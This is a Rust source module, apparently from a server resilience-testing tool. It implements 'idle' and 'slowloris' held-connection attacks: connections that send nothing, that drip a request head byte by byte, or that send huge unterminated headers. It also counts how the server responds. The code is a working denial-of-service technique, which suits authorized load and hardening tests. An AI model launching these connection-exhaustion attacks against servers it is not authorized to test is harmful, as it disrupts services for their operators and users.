//! Attacks of held TCP connections: `idle` (connect, send nothing) and `slowloris` (a request
//! head one byte at a time, and a few unterminated huge headers). Each connection is held until
//! the server ends it or the attack ends, and counted under its group's name:
//! `<name>.opened`, `.connect_failed.<kind>`, `.answered.<status>` (the server said something,
//! e.g. 408 or 431), `.closed_by_server` or `.reset_by_server` (with the time it took in the
//! `<name>.closed_after` histogram), `.held_to_end`, `.sent_whole`, `.write_failed` or
//! `.write_stalled` (what became of the bytes it meant to send), and `.peak_held`.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use parking_lot::Mutex;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::{Held, drive};
use crate::cli::AttackArgs;
use crate::http1::status_of;
use crate::net::{connect_from, failure_kind};
use crate::scenarios::Ctx;

/// How long one connect may take (a server whose accept queue is full lets SYNs wait).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// What a held connection sends: `step` bytes of `bytes` every `every`, from its start.
#[derive(Clone)]
struct Drip {
    bytes: Arc<[u8]>,
    step: usize,
    every: Duration,
}

impl Drip {
    fn nothing() -> Self {
        Self {
            bytes: Arc::from(&[][..]),
            step: 1,
            every: Duration::MAX,
        }
    }
}

/// `idle`: up to `--attack-conns` connections that never send a byte.
pub async fn idle(a: &Arc<Ctx>, args: &AttackArgs) {
    hold_many(
        a,
        "idle",
        args.conns(),
        args.attack_concurrency,
        Drip::nothing(),
    )
    .await;
}

/// `slowloris`: up to `--attack-conns` connections sending a request head one byte every
/// `--slowloris-interval-ms`, beside `--huge-headers` connections that send one header of
/// `--huge-header-bytes` without ever ending it.
pub async fn slowloris(a: &Arc<Ctx>, args: &AttackArgs) {
    let host = a.net.target(0).addr.to_string();
    let every = Duration::from_millis(args.slowloris_interval_ms.max(1));
    // One byte per interval over the attack, and one more: never the end of the head.
    let drips = (args.attack_duration * 1_000 / args.slowloris_interval_ms.max(1) + 1) as usize;
    let mut head =
        format!("POST /api/v1/queue/join HTTP/1.1\r\nHost: {host}\r\nX-Slow: ").into_bytes();
    head.resize(head.len().max(drips), b'a');
    head.truncate(drips);
    let slow = Drip {
        bytes: Arc::from(head),
        step: 1,
        every,
    };
    let mut huge =
        format!("GET /api/v1/queue/status?token=bogus HTTP/1.1\r\nHost: {host}\r\nX-Huge: ")
            .into_bytes();
    huge.resize(huge.len() + args.huge_header_bytes, b'a');
    let huge = Drip {
        step: huge.len(),
        bytes: Arc::from(huge),
        every: Duration::MAX,
    };
    let concurrency = args.attack_concurrency;
    tokio::join!(
        hold_many(a, "huge_header", args.huge_headers, concurrency, huge),
        hold_many(a, "slowloris", args.conns(), concurrency, slow),
    );
}

/// Opens `count` connections (`concurrency` connects at a time) spread over the attacker's
/// addresses, each sending `drip`, and holds them until the server ends them or the attack
/// ends.
async fn hold_many(a: &Arc<Ctx>, name: &'static str, count: u64, concurrency: usize, drip: Drip) {
    if count == 0 {
        return;
    }
    let held = Arc::new(Held::default());
    let holders = Arc::new(Mutex::new(JoinSet::new()));
    {
        let (held, holders) = (held.clone(), holders.clone());
        drive(
            a,
            count,
            concurrency,
            |_| None,
            move |a, n| {
                let (held, holders, drip) = (held.clone(), holders.clone(), drip.clone());
                async move {
                    let target = a.net.target(n).addr;
                    let connect = tokio::time::timeout(
                        CONNECT_TIMEOUT,
                        connect_from(target, a.net.source(n)),
                    );
                    let stream = match connect.await {
                        Ok(Ok(stream)) => stream,
                        Ok(Err(e)) => {
                            a.rec
                                .count(&format!("{name}.connect_failed.{}", failure_kind(&e)));
                            return;
                        }
                        Err(_) => {
                            a.rec.count(&format!("{name}.connect_failed.timeout"));
                            return;
                        }
                    };
                    a.rec.count(&format!("{name}.opened"));
                    held.opened();
                    holders.lock().spawn(async move {
                        hold(&a, name, stream, drip).await;
                        held.closed();
                    });
                }
            },
        )
        .await;
    }
    let mut holders = std::mem::take(&mut *holders.lock());
    while holders.join_next().await.is_some() {}
    a.rec.add(&format!("{name}.peak_held"), held.peak());
}

/// How a held connection ended.
enum End {
    Closed,
    Reset,
    Open,
}

/// Holds one connection: sends its drip while reading whatever the server says, until the
/// server closes it or the attack ends; counts how it went.
async fn hold(a: &Ctx, name: &str, mut stream: TcpStream, drip: Drip) {
    let opened = Instant::now();
    let (mut r, mut w) = stream.split();
    // Set while a write waits for the server to read (not while the drip sleeps).
    let blocked = AtomicBool::new(false);
    let write = async {
        let mut at = opened;
        for chunk in drip.bytes.chunks(drip.step) {
            tokio::time::sleep_until(at).await;
            blocked.store(true, Ordering::Relaxed);
            w.write_all(chunk).await?;
            blocked.store(false, Ordering::Relaxed);
            at = at.checked_add(drip.every).unwrap_or(a.deadline);
        }
        Ok::<_, std::io::Error>(())
    };
    tokio::pin!(write);
    let mut writing = !drip.bytes.is_empty();
    let (mut got, mut buf) = (Vec::new(), [0u8; 1_024]);
    let end = loop {
        tokio::select! {
            sent = &mut write, if writing => {
                writing = false;
                let verdict = if sent.is_ok() { "sent_whole" } else { "write_failed" };
                a.rec.count(&format!("{name}.{verdict}"));
            }
            read = r.read(&mut buf) => match read {
                Ok(0) => break End::Closed,
                Ok(n) if got.len() < 256 => got.extend_from_slice(&buf[..n]),
                Ok(_) => {}
                Err(_) => break End::Reset,
            },
            () = tokio::time::sleep_until(a.deadline) => break End::Open,
        }
    };
    if writing && blocked.load(Ordering::Relaxed) {
        // The server neither read the rest nor closed: it holds what it buffered.
        a.rec.count(&format!("{name}.write_stalled"));
    }
    if !got.is_empty() {
        let said = status_of(&got).map_or("other".to_owned(), |s| s.to_string());
        a.rec.count(&format!("{name}.answered.{said}"));
    }
    let end = match end {
        End::Closed => "closed_by_server",
        End::Reset => "reset_by_server",
        End::Open => "held_to_end",
    };
    a.rec.count(&format!("{name}.{end}"));
    if end != "held_to_end" {
        a.rec.hist(
            &format!("{name}.closed_after"),
            opened.elapsed().as_micros() as u64,
        );
    }
}
